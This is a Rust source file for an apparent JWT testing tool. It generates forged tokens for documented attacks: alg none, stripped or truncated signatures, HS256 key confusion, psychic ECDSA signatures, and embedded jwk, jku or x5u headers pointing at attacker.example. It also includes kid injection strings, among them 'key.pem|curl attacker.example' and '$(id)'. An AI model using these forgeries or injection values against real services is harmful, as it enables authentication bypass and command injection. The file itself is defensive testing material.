//! Tester presets: the forged and broken tokens the JWT literature warns about, made from a
//! header and payload the user wrote. Each says what it simulates and where the attack is
//! described. The payload text is kept byte for byte; the header is re-serialised with the
//! preset's changes (member order kept).

use serde_json::{Map, Value};

use crate::jose::alg::{Algorithm, Curve};
use crate::jose::base64url;
use crate::jose::keygen::{self, KeyKind};
use crate::jose::keys::{Key, KeyMaterial};
use crate::jose::sign;

/// Strings for the `kid` injection preset.
/// Each comes with the HMAC secret a vulnerable server then uses: an empty file, the value the
/// injected SQL selects, or (for shell injection) the command's empty output.
pub const KID_INJECTIONS: [(&str, &str); 5] = [
    ("../../../../../../dev/null", ""),
    ("/dev/null", ""),
    ("x' UNION SELECT 'AA==' -- ", "AA=="),
    ("key.pem|curl attacker.example", ""),
    ("$(id)", ""),
];

/// The capitalisations of `none` that libraries have been fooled by.
pub const NONE_VARIANTS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

/// A forged or broken token the tester can make from the current one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Preset {
    /// `alg` set to this spelling of `none`, signature empty.
    AlgNone(&'static str),
    /// The signature segment removed, header unchanged.
    StripSignature,
    /// A signature of the wrong length (the real one cut in half).
    WrongLengthSignature,
    /// HS256 with a loaded public key's PEM text as the secret, with or without its final newline.
    KeyConfusion {
        /// Whether the secret keeps the PEM's final newline (libraries differ).
        trailing_newline: bool,
    },
    /// ES256/384/512 with r = s = 0.
    PsychicSignature(Algorithm),
    /// A freshly generated key embedded as the header's `jwk` and used to sign.
    EmbeddedJwk,
    /// `jku` pointing at a URL (never fetched); signed with a fresh key whose JWKS the tester hosts.
    Jku(String),
    /// `x5u` pointing at a URL (never fetched); signed with a fresh key.
    X5u(String),
    /// `kid` set to an injection string; re-signed with the signing key when one fits.
    KidInjection(&'static str, &'static str),
}

impl Preset {
    /// Every preset, with the URL presets on a placeholder address.
    pub fn all() -> Vec<Self> {
        let mut all: Vec<Self> = NONE_VARIANTS.iter().map(|v| Self::AlgNone(v)).collect();
        all.extend([
            Self::StripSignature,
            Self::WrongLengthSignature,
            Self::KeyConfusion { trailing_newline: true },
            Self::KeyConfusion { trailing_newline: false },
            Self::PsychicSignature(Algorithm::ES256),
            Self::PsychicSignature(Algorithm::ES384),
            Self::PsychicSignature(Algorithm::ES512),
            Self::EmbeddedJwk,
            Self::Jku("https://attacker.example/jwks.json".to_owned()),
            Self::X5u("https://attacker.example/cert.pem".to_owned()),
        ]);
        all.extend(KID_INJECTIONS.iter().map(|(kid, secret)| Self::KidInjection(kid, secret)));
        all
    }

    /// The name in the presets menu: "Strip the signature".
    pub fn label(&self) -> String {
        match self {
            Self::AlgNone(v) => format!("alg: {v:?} (unsigned)"),
            Self::StripSignature => "Strip the signature".to_owned(),
            Self::WrongLengthSignature => "Signature of the wrong length".to_owned(),
            Self::KeyConfusion { trailing_newline: true } => "HS256 with the public key PEM as secret".to_owned(),
            Self::KeyConfusion { trailing_newline: false } => {
                "HS256 with the public key PEM as secret (no final newline)".to_owned()
            }
            Self::PsychicSignature(alg) => format!("Psychic signature ({alg}, r = s = 0)"),
            Self::EmbeddedJwk => "Embedded jwk header".to_owned(),
            Self::Jku(_) => "jku pointing at a URL".to_owned(),
            Self::X5u(_) => "x5u pointing at a URL".to_owned(),
            Self::KidInjection(kid, _) => format!("kid injection: {kid}"),
        }
    }

    /// One sentence: what it simulates, and the reference.
    pub fn explanation(&self) -> &'static str {
        match self {
            Self::AlgNone(_) => {
                "Claims the token is unsigned; libraries that honour alg none (in any capitalisation) accept anything. CVE-2015-9235; RFC 8725 §3.1."
            }
            Self::StripSignature => {
                "Removes the signature; a verifier that skips the check on an empty signature accepts it. RFC 8725 §3.1."
            }
            Self::WrongLengthSignature => {
                "Truncates the signature; a verifier must reject signatures of the wrong length rather than compare a prefix. RFC 8725 §3.3."
            }
            Self::KeyConfusion { .. } => {
                "Switches to HS256 and MACs with the server's public key as the secret: a library that lets the token pick the algorithm verifies it with its own public key. CVE-2016-10555; RFC 8725 §2.1."
            }
            Self::PsychicSignature(_) => {
                "An ECDSA signature with r = s = 0, which Java 15-18 accepted for any message and key. CVE-2022-21449."
            }
            Self::EmbeddedJwk => {
                "Signs with a new key and puts that key in the header; a verifier that trusts the header's jwk accepts it. CVE-2018-0114; RFC 8725 §3.10."
            }
            Self::Jku(_) => {
                "Points the verifier at a key set the attacker hosts; a server that fetches jku trusts the attacker's key (and may be led to request internal URLs). RFC 8725 §3.10."
            }
            Self::X5u(_) => "Points the verifier at a certificate the attacker hosts. RFC 8725 §3.10; RFC 7515 §4.1.5.",
            Self::KidInjection(..) => {
                "Puts a path traversal, SQL or shell string in kid and signs HS256 with the key a vulnerable server would then load (an empty file, the SQL-selected value). RFC 8725 §3.10."
            }
        }
    }
}

/// Why a preset could not be applied.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum PresetError {
    /// The header is not a JSON object (what it is instead, or the parser's message).
    #[error("the header is not a JSON object, so the preset cannot change it: {0}")]
    Header(String),
    /// Key confusion needs a public key loaded from PEM.
    #[error("this preset needs a public key loaded from PEM (its PEM text is the forged secret)")]
    NeedsPem,
    /// Signing the forged token failed.
    #[error("{0}")]
    Sign(#[from] sign::SignError),
    /// Generating the preset's key failed.
    #[error("{0}")]
    Keygen(#[from] keygen::KeygenError),
}

/// What a preset made.
#[derive(Clone, Debug)]
pub struct Applied {
    /// The forged token, compact.
    pub token: String,
    /// The header text the token carries.
    pub header_text: String,
    /// A key the preset generated (embedded jwk, jku, x5u): load it to see the token verify.
    pub generated: Option<keygen::Generated>,
}

fn header_object(header_text: &str) -> Result<Map<String, Value>, PresetError> {
    match serde_json::from_str::<Value>(header_text) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(other) => {
            Err(PresetError::Header(format!("it is {}", if other.is_array() { "an array" } else { "not an object" })))
        }
        Err(e) => Err(PresetError::Header(e.to_string())),
    }
}

fn unsigned(header_text: &str, payload_text: &str, signature: &[u8]) -> String {
    format!("{}.{}.{}", base64url::encode(header_text), base64url::encode(payload_text), base64url::encode(signature))
}

/// Applies `preset` to the header and payload text. `signing_key` is the key the user chose
/// for signing (used by `WrongLengthSignature`); `keys` are the loaded
/// keys (the key-confusion preset uses the first public key loaded from PEM).
pub fn apply(
    preset: &Preset,
    header_text: &str,
    payload_text: &str,
    signing_key: Option<&Key>,
    keys: &[Key],
) -> Result<Applied, PresetError> {
    let mut header = header_object(header_text)?;
    let set = |header: &mut Map<String, Value>, name: &str, value: Value| {
        header.insert(name.to_owned(), value);
    };
    let text = |header: &Map<String, Value>| Value::Object(header.clone()).to_string();
    let alg_of = |header: &Map<String, Value>| header.get("alg").and_then(Value::as_str).and_then(Algorithm::from_name);
    let done = |header_text: String, token: String| Applied { token, header_text, generated: None };

    match preset {
        Preset::AlgNone(variant) => {
            set(&mut header, "alg", Value::String((*variant).to_owned()));
            let h = text(&header);
            Ok(done(h.clone(), unsigned(&h, payload_text, &[])))
        }
        Preset::StripSignature => Ok(done(header_text.to_owned(), unsigned(header_text, payload_text, &[]))),
        Preset::WrongLengthSignature => {
            let signature = match (alg_of(&header), signing_key) {
                (Some(alg), Some(key)) => {
                    let input = format!("{}.{}", base64url::encode(header_text), base64url::encode(payload_text));
                    sign::sign(alg, key, input.as_bytes())?
                }
                _ => vec![0x5a; 32],
            };
            let half = signature.get(..signature.len() / 2).unwrap_or_default();
            Ok(done(header_text.to_owned(), unsigned(header_text, payload_text, half)))
        }
        Preset::KeyConfusion { trailing_newline } => {
            let pem = keys
                .iter()
                .find(|k| !matches!(k.material, KeyMaterial::Secret(_)))
                .and_then(|k| k.pem_text.clone())
                .ok_or(PresetError::NeedsPem)?;
            let trimmed = pem.trim_end();
            let secret = if *trailing_newline { format!("{trimmed}\n") } else { trimmed.to_owned() };
            set(&mut header, "alg", Value::String("HS256".to_owned()));
            let h = text(&header);
            let key =
                crate::jose::keys::secret_from_text(&secret, crate::jose::keys::SecretEncoding::Utf8, "public key PEM")
                    .map_err(|e| PresetError::Header(e.to_string()))?;
            Ok(done(h.clone(), sign::encode(&h, payload_text, Algorithm::HS256, &key)?))
        }
        Preset::PsychicSignature(alg) => {
            let curve = alg.curve().unwrap_or(Curve::P256);
            set(&mut header, "alg", Value::String(alg.name().to_owned()));
            let h = text(&header);
            Ok(done(h.clone(), unsigned(&h, payload_text, &vec![0; 2 * curve.coordinate_len()])))
        }
        Preset::EmbeddedJwk | Preset::Jku(_) | Preset::X5u(_) => {
            let generated = keygen::generate(KeyKind::Ec(Curve::P256))?;
            set(&mut header, "alg", Value::String("ES256".to_owned()));
            set(&mut header, "kid", Value::String(generated.key.kid.clone().unwrap_or_default()));
            match preset {
                Preset::EmbeddedJwk => set(&mut header, "jwk", generated.public_jwk.clone()),
                Preset::Jku(url) => set(&mut header, "jku", Value::String(url.clone())),
                Preset::X5u(url) => set(&mut header, "x5u", Value::String(url.clone())),
                _ => {}
            }
            let h = text(&header);
            let token = sign::encode(&h, payload_text, Algorithm::ES256, &generated.key)?;
            Ok(Applied { token, header_text: h, generated: Some(generated) })
        }
        Preset::KidInjection(kid, secret) => {
            set(&mut header, "alg", Value::String("HS256".to_owned()));
            set(&mut header, "kid", Value::String((*kid).to_owned()));
            let h = text(&header);
            let key =
                crate::jose::keys::secret_from_text(secret, crate::jose::keys::SecretEncoding::Utf8, "injected key")
                    .map_err(|e| PresetError::Header(e.to_string()))?;
            Ok(done(h.clone(), sign::encode(&h, payload_text, Algorithm::HS256, &key)?))
        }
    }
}
